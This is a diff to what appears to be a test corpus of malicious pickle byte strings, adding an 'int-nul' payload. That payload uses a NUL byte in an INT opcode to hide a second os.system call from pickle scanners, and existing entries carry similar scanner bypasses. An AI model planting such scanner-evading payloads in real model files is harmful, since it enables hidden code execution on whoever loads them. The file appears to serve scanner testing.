@@ -26,6 +26,9 @@ TRICKS = {
     "type-confusion": b"\x80\x04cos\nsystem\n\x8c\x06echo t\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93.",
     # the call runs, then an unquoted STRING (modelscan-pickle-bypass rce_payload.pkl)
     "bad-string": b"cbase64\nb64decode\n(S'aWQ='\ntR(S{}\n.",
+    # the C unpickler reads INT with strtol, which stops at a NUL: "I\x001" is 0, and the stream
+    # goes on to a second call (found by test_unpickler_differential.py, batch seed 113)
+    "int-nul": b"\x80\x03Vos\n\x94X\x06\x00\x00\x00system\x93I\x001\nX\x02\x00\x00\x00id\x86R0h\x00S'system'\n\x93(S'ls'\ntR.",
 }
 
 
